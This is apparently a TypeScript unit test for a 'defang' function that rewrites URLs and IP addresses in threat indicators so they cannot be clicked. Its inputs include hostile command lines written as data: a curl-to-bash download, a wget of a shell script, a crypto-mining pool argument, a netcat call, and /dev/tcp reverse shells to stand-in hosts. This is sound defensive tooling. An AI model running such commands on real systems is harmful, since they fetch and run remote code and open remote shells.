import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defang } from './defang.ts';

test('addresses are shown so that nothing makes a link of them', () => {
  for (const [text, shown] of [
    ['curl -s http://192.0.2.1:8220/logo3.jpg | bash', 'curl -s hxxp://192[.]0[.]2[.]1:8220/logo3.jpg | bash'],
    ['wget HTTPS://a.b.example/x.sh', 'wget hxxpS://a[.]b[.]example/x.sh'],
    ['-o stratum+tcp://pool.example:3333 -u 4A', '-o stratum+tcp://pool[.]example:3333 -u 4A'],
    ['nc pool.example:4444', 'nc pool[.]example:4444'],
    ['bash -i >& /dev/tcp/evil.example/1', 'bash -i >& /dev/tcp/evil[.]example/1'],
    ['exec 5<>/dev/tcp/198.51.100.7/1', 'exec 5<>/dev/tcp/198[.]51[.]100[.]7/1'],
    ['/usr/lib/python3.11/x.py, version 1.2.3', '/usr/lib/python3.11/x.py, version 1.2.3'],
  ] as const)
    assert.equal(defang(text), shown);
});
